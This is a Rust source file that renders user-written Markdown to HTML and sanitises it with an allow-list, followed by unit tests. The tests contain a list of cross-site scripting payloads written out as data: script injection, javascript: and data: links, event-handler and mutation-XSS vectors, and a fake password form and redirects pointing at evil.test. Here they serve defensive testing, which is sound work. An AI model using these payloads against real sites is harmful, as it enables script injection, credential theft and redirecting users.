//! Markdown that people wrote, as HTML that is safe in a page: rendered, then cleaned, by libraries that do nothing else (B51).

use std::borrow::Borrow;
use std::collections::HashSet;
use std::sync::LazyLock;

use ammonia::Builder;
use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};

/// What may stand in a page. Images may not: they would be somebody else's, and pages load nothing from elsewhere.
const TAGS: [&str; 29] = [
    "a",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "dl",
    "dt",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "kbd",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
];

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut cleaner = Builder::empty();
    cleaner
        .tags(TAGS.into_iter().chain(["tr", "ul"]).collect::<HashSet<_>>())
        .clean_content_tags(HashSet::from(["script", "style", "template", "noscript", "iframe", "object", "title", "textarea"]))
        .add_tag_attributes("a", ["href", "title"])
        .add_tag_attributes("ol", ["start"])
        .url_schemes(HashSet::from(["https", "http", "mailto"]))
        .link_rel(Some("noopener noreferrer nofollow"));
    cleaner
});

const OPTIONS: Options = Options::ENABLE_TABLES.union(Options::ENABLE_STRIKETHROUGH);

/// The HTML of a text that stands in a page. A page has headings of its own: one of the text begins at the third level.
pub(crate) fn html(text: &str) -> String {
    cleaned(Parser::new_ext(text, OPTIONS), |level| match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6 => HeadingLevel::H6,
    })
}

/// The HTML of a text that a page is there for. Its title is the heading of the page: the text does not say it again, and goes on one
/// level below it, without leaving a level out.
pub(crate) fn document(text: &str, title: &str) -> String {
    let events: Vec<_> = Parser::new_ext(text, OPTIONS).collect();
    let heading = match events.first() {
        Some(Event::Start(Tag::Heading { .. })) => {
            events.iter().position(|event| matches!(event, Event::End(TagEnd::Heading(_))))
        }
        _ => None,
    };
    let said_again = |end: &usize| words_of(events.iter().take(*end)) == title.split_whitespace().collect::<Vec<_>>().join(" ");
    let begin = heading.filter(said_again).map_or(0, |end| end + 1);
    // The levels of the headings that the next one lies below.
    let mut above: Vec<HeadingLevel> = Vec::new();
    cleaned(events.into_iter().skip(begin), move |level| {
        above.retain(|one| *one < level);
        above.push(level);
        HeadingLevel::try_from(above.len() + 1).unwrap_or(HeadingLevel::H6)
    })
}

/// Rendered and cleaned. An image is the words that stand for it; a heading has the level that `lower` makes of its own.
fn cleaned<'t>(events: impl Iterator<Item = Event<'t>>, mut lower: impl FnMut(HeadingLevel) -> HeadingLevel) -> String {
    let mut now = HeadingLevel::H6;
    let fitting = |event: Event<'t>| {
        Some(match event {
            Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) => return None,
            Event::Start(Tag::Heading { level, .. }) => {
                now = lower(level);
                Event::Start(Tag::Heading { level: now, id: None, classes: Vec::new(), attrs: Vec::new() })
            }
            Event::End(TagEnd::Heading(_)) => Event::End(TagEnd::Heading(now)),
            other => other,
        })
    };
    let mut rendered = String::new();
    html::push_html(&mut rendered, events.filter_map(fitting));
    CLEANER.clean(&rendered).to_string()
}

/// The words of a text, for where it is shown in a line.
pub(crate) fn words(text: &str) -> String {
    words_of(Parser::new_ext(text, OPTIONS))
}

fn words_of<'t>(events: impl Iterator<Item = impl Borrow<Event<'t>>>) -> String {
    let mut words = String::new();
    for event in events {
        match event.borrow() {
            Event::Text(text) | Event::Code(text) => words.push_str(text),
            Event::SoftBreak | Event::HardBreak | Event::Rule => words.push(' '),
            Event::End(
                TagEnd::Paragraph | TagEnd::Heading(_) | TagEnd::Item | TagEnd::TableCell | TagEnd::CodeBlock | TagEnd::HtmlBlock,
            ) => words.push(' '),
            _ => {}
        }
    }
    words.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_markdown_is_for_is_shown() {
        let text = "# Tides\n\nHigh **and** low.\n\n- `GET /tides`\n- [docs](https://example.test/a?b=1&c=2 \"More\")\n\n| a | b |\n|---|---|\n| 1 | 2 |";
        let shown = html(text);
        for part in [
            "<h3>Tides</h3>",
            "<strong>and</strong>",
            "<li><code>GET /tides</code></li>",
            "href=\"https://example.test/a?b=1&amp;c=2\"",
            "rel=\"noopener noreferrer nofollow\"",
            "<td>1</td>",
        ] {
            assert!(shown.contains(part), "{part} in {shown}");
        }
        assert_eq!(words(text), "Tides High and low. GET /tides docs a b 1 2");
    }

    /// Each of these runs in a browser where it is let through.
    const PAYLOADS: [&str; 24] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](java\tscript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        "<javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "![x](https://evil.test/x.png \"y\")",
        "![x\" onerror=\"alert(1)](x)",
        "<img src=x onerror=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<svg onload=alert(1)><circle/></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
        "<style>@import 'https://evil.test/x.css';</style>",
        "<p style=\"background:url(https://evil.test)\" onclick=alert(1) id=main class=button>x</p>",
        "<form action=https://evil.test><input name=password><button>Sign in</button></form>",
        "<base href=https://evil.test><meta http-equiv=refresh content='0;url=https://evil.test'><link rel=stylesheet href=x>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ];

    #[test]
    fn nothing_that_somebody_typed_runs_loads_or_looks_like_the_page() {
        for payload in PAYLOADS {
            for text in
                [payload.to_owned(), format!("before {payload} after"), format!("> {payload}"), format!("- x\n\n  {payload}")]
            {
                let shown = format!("{}{}", html(&text), document(&text, "A title")).to_lowercase();
                // What is left as text is escaped: only real tags and attributes are of interest.
                let tags: Vec<&str> = shown.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()).collect();
                for tag in tags {
                    let name = tag.trim_start_matches('/').split([' ', '\n', '/']).next().unwrap_or_default();
                    assert!(TAGS.contains(&name) || ["tr", "ul"].contains(&name), "{text:?} became <{tag}> in {shown}");
                    for bad in ["javascript:", "vbscript:", "data:", " on", "style=", "srcdoc", " id=", " class=", " src="] {
                        assert!(!tag.contains(bad), "{text:?} became <{tag}> in {shown}");
                    }
                }
                assert!(!shown.contains("alert(1)</script"), "{text:?}: {shown}");
            }
        }
    }

    #[test]
    fn a_document_goes_on_below_its_title_without_leaving_a_level_out() {
        let shown = document("# Begin *here*\n\n### Deep\n\n# Next\n\n## Below\n\n###### Last", "Begin  here");
        assert_eq!(shown.replace('\n', ""), "<h2>Deep</h2><h2>Next</h2><h3>Below</h3><h4>Last</h4>");
        let beside = document("# Begin\n\n## One\n\n## Two", "Begin");
        assert_eq!(beside.replace('\n', ""), "<h2>One</h2><h2>Two</h2>", "what stands on a level stays on one");
        assert_eq!(document("# Other", "Begin").trim(), "<h2>Other</h2>");
        assert_eq!(document("Begin", "Begin").trim(), "<p>Begin</p>", "only a heading is a title");
    }

    #[test]
    fn words_are_words_and_no_markup() {
        assert_eq!(words("**High**, <b>and</b> _low_.\n\n* one\n* two"), "High, and low. one two");
        assert_eq!(words(""), "");
    }
}
